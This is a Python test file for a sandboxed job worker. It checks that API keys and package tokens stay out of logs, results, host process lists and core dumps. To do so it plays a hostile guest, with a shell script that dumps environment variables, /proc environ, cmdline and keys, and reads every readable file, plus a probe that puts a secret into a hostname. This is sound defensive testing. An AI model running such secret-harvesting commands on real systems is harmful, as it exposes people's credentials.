"""Secrets and what a guest, a process beside it or a reader of the results could see of them (A72, A73)."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from aiohttp import web

from tatin_jobs.models import Model, Verify
from tatin_jobs.settings import ModelProvider, SecretSetting, load_settings
from tatin_jobs.states import Outcome, Reason
from tests.attacks.conftest import ProviderOf
from tests.support.attempts import Bench, bench
from tests.support.model_route import KEY, good, key_file, provider
from worker.redaction import Redactor

pytestmark = pytest.mark.needs("git", "valkey")

PACKAGE_TOKEN = "npm_0123456789abcdefghijABCDEFGHIJ"
HOST_LIKE_TOKEN = "tok-0123456789abcdefghij"
"""One that may stand where a host's name does."""
LOOK_EVERYWHERE = r"""
env; set
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps; do cat "$f"; done
find / \( -path /proc -o -path /sys -o -path /usr -o -path /opt/tatin/tools -o -name stdout \) -prune \
  -o -type f -size -200k -print -exec head -q -c 200000 {} +
cat /proc/mounts /proc/self/mountinfo /proc/keys
true
"""


def _all_bytes(*folders: Path) -> Iterator[tuple[Path, bytes]]:
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink():
                yield path, path.read_bytes()


def holds(redactor: Redactor, data: bytes) -> bool:
    """Whether a secret is in there, in any form that is looked for."""
    joined = data.translate(None, b"\r\n")
    return any(form in joined for form in redactor._forms)


@pytest.fixture
def made(tmp_path: Path, provider_of: ProviderOf) -> Iterator[Bench]:
    (tmp_path / "keys").mkdir()
    file = key_file(tmp_path / "keys")
    token = tmp_path / "keys" / "token"
    token.touch(mode=0o600)
    token.write_text(PACKAGE_TOKEN)
    host_like = tmp_path / "keys" / "host-like"
    host_like.touch(mode=0o600)
    host_like.write_text(HOST_LIKE_TOKEN)
    settings = {
        "models": {"paid": ModelProvider(base_url="http://127.0.0.1:9", key_file=file)},
        "secrets": {
            "NPM_TOKEN": SecretSetting(file=token),
            "HOST_LIKE": SecretSetting(file=host_like),
            "GONE": SecretSetting(env="TATIN_TEST_NOT_SET"),
        },
    }
    with bench(tmp_path, provider_of, **settings) as bench_made:
        yield bench_made


async def test_a73_a_guest_that_prints_all_it_can_see_shows_no_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, provider_of: ProviderOf
) -> None:
    """A72, A73: environment, /proc, every file it can read; and the key was used meanwhile. Searched is what came
    out as it came, with the redaction switched off."""
    monkeypatch.setattr(Redactor, "add", lambda self, secret: None)
    (tmp_path / "keys").mkdir()
    ask = (
        "python3 -c 'import os, urllib.request as u;"
        ' r = u.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions",'
        ' b"{\\"model\\": \\"m\\", \\"messages\\": []}", {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]});'
        " print(u.urlopen(r).read())'"
    )
    async with provider(good) as there:
        models = {"paid": ModelProvider(base_url=there.base_url, key_file=key_file(tmp_path / "keys"))}
        with bench(tmp_path, provider_of, models=models) as bench_made:
            job, _ = await bench_made.run(
                command=f"{ask}\n{LOOK_EVERYWHERE}\nenv > ../env.txt",
                model=Model(name="m", provider="paid"),
                setup=LOOK_EVERYWHERE,
                verify=Verify(run=LOOK_EVERYWHERE),
            )
            assert job.outcome is Outcome.SUCCEEDED, job.message
            assert there.requests[0][2]["authorization"] == f"Bearer {KEY}"
            seen = dict(_all_bytes(bench_made.home.jobs))
            shown = b"".join(chunk.data for chunk in bench_made.store.read_log(job.id))
    log = next(data for path, data in seen.items() if path.name == "agent.log")
    assert b"OPENAI_API_KEY=" in log, "it printed its environment"
    assert b"root:x:0:0" in log, "it read files"
    assert KEY.encode() not in shown
    assert [path for path, data in seen.items() if KEY.encode() in data] == []


async def test_a73_a_job_secret_is_in_the_guest_and_nowhere_else(made: Bench) -> None:
    """A72, A73: it reaches setup, agent and verify; the log, the events, the result, the store and the host's processes
    do not hold it, as it is or encoded."""
    script = 'test ${#NPM_TOKEN} = 34; echo "$NPM_TOKEN"; printf %s "$NPM_TOKEN" | base64 | fold -w 5; echo done >&2'
    job, result = await made.run(command=script, setup=script, verify=Verify(run=script), secrets=("NPM_TOKEN",))
    assert job.outcome is Outcome.SUCCEEDED, job.message
    assert result.secrets == ("NPM_TOKEN",)
    redactor = Redactor()
    redactor.add(PACKAGE_TOKEN)
    kept = dict(_all_bytes(made.home.root))
    assert [path for path, data in kept.items() if holds(redactor, data)] == []
    shown = b"".join(chunk.data for chunk in made.store.read_log(job.id))
    assert b"***" in shown
    assert not holds(redactor, shown)
    assert not holds(redactor, made.store.job(job.id).model_dump_json().encode())


async def test_a73_a_secret_asked_for_as_a_host_is_not_told_as_what_was_blocked(made: Bench) -> None:
    """A73: what Tatin says of a denied host is the guest's own words."""
    ask = "import os, urllib.request as u; u.urlopen('http://' + os.environ['HOST_LIKE'] + '.example/')"
    job, result = await made.run(command=f'python3 -c "{ask}"; true', secrets=("HOST_LIKE",))
    assert result.network is not None
    assert [denied.where for denied in result.network.denied] == ["***.example:80"]
    shown = b"".join(chunk.data for chunk in made.store.read_log(job.id))
    assert b"blocked: ***.example:80" in shown
    assert HOST_LIKE_TOKEN.encode() not in shown
    assert [path for path, data in _all_bytes(made.home.jobs) if HOST_LIKE_TOKEN.encode() in data] == []


async def test_a72_no_process_of_the_host_has_a_job_secret_in_its_arguments(made: Bench) -> None:
    """A72: looked at from the host, in every process, while the guest runs with it in its environment."""
    made.submit(made.spec(command="echo ready; sleep 600", secrets=("NPM_TOKEN",), timeout_seconds=60))
    from worker.control import Control, Stop

    control, lease = Control(), made.claim()
    attempt = asyncio.create_task(made.attempt(lease, control))
    log = made.folder(lease) / "agent.log"
    async with asyncio.timeout(30):
        while not (log.exists() and b"ready" in log.read_bytes()):  # noqa: ASYNC110 - a file has no event
            await asyncio.sleep(0.02)
    arguments, environments = _processes_with(PACKAGE_TOKEN.encode())
    control.interrupt(Stop.CANCELLED)
    await attempt
    assert arguments == []
    assert environments, "the guest's own processes have it: the search finds something"
    assert os.getpid() not in environments


def _processes_with(secret: bytes) -> tuple[list[int], list[int]]:
    found: dict[str, list[int]] = {"cmdline": [], "environ": []}
    for process in Path("/proc").glob("[0-9]*"):
        for name, pids in found.items():
            try:
                if secret in (process / name).read_bytes():
                    pids.append(int(process.name))
            except OSError:
                continue
    return found["cmdline"], found["environ"]


@pytest.mark.parametrize(
    ("name", "reason", "words"),
    [
        ("HOME", Reason.REFUSED, "is not one that this worker gives to jobs"),
        ("GONE", Reason.AUTH, "no variable TATIN_TEST_NOT_SET"),
    ],
)
async def test_a73_a_secret_that_is_not_to_be_had_ends_the_job_before_anything_starts(
    made: Bench, name: str, reason: Reason, words: str
) -> None:
    """A73: a job cannot ask for any variable of the worker; and nothing is run without what it asked for."""
    job, result = await made.run(command="env", secrets=(name,))
    assert (job.outcome, job.reason) == (Outcome.FAILED, reason)
    assert words in job.message
    assert result.sandbox is None


async def test_a73_a_provider_that_quotes_the_key_in_other_forms_is_cleaned(tmp_path: Path) -> None:
    """A73: what a provider says in its error goes to the guest, the log and the result without the key."""
    import base64

    from tests.support.model_route import route

    async def quote(request: web.BaseRequest) -> web.StreamResponse:
        encoded = base64.b64encode(b"key: " + KEY.encode()).decode()
        return web.json_response({"error": {"message": f"bad key {KEY} {encoded}"}}, status=429)

    async with provider(quote) as there, route(there.base_url, key_file=key_file(tmp_path)) as here:
        async with here.post() as got:
            text = await got.text()
        told = here.gateway.usage.last_error or ""
    redactor = Redactor()
    redactor.add(KEY)
    assert not holds(redactor, f"{text} {told}".encode())
    assert "bad key ***" in text
    assert "bad key ***" in told


HARDENED = """
import json, os, resource, subprocess, sys
from tatin_jobs.settings import load_settings
from worker.hardening import harden
harden(load_settings(os.environ))
children = subprocess.run(["env"], capture_output=True, text=True, check=True).stdout
core = subprocess.run(["sh", "-c", "ulimit -c"], capture_output=True, text=True, check=True).stdout.strip()
print(json.dumps({"core": core, "children": children, "own": dict(os.environ)}), flush=True)
sys.stdin.read()
"""


def test_a73_a_worker_leaves_no_core_and_hands_no_key_on(tmp_path: Path) -> None:
    """A72, A73: no core dump of it or of what it starts, and no key variable in its children."""
    (tmp_path / "tatin.toml").write_text("[secrets.NPM_TOKEN]\nenv = 'MY_NPM'\n")
    environ = {
        **os.environ,
        "TATIN_HOME": str(tmp_path),
        "OPENAI_API_KEY": KEY,
        "MY_NPM": PACKAGE_TOKEN,
        "PYTHONPATH": os.getcwd(),
    }
    assert load_settings(environ).secrets
    with subprocess.Popen(
        [sys.executable, "-c", HARDENED], env=environ, stdin=subprocess.PIPE, stdout=subprocess.PIPE
    ) as worker:
        assert worker.stdout is not None
        told = json.loads(worker.stdout.readline())
        limits = Path(f"/proc/{worker.pid}/limits").read_text()
        owner = Path(f"/proc/{worker.pid}/environ").stat().st_uid
        worker.communicate()
    assert told["core"] == "0"
    assert "Max core file size        0                    0" in limits
    assert KEY not in told["children"] + str(told["own"])
    assert PACKAGE_TOKEN not in told["children"] + str(told["own"])
    assert owner == 0, "not dumpable: /proc shows its memory and environment to root alone"
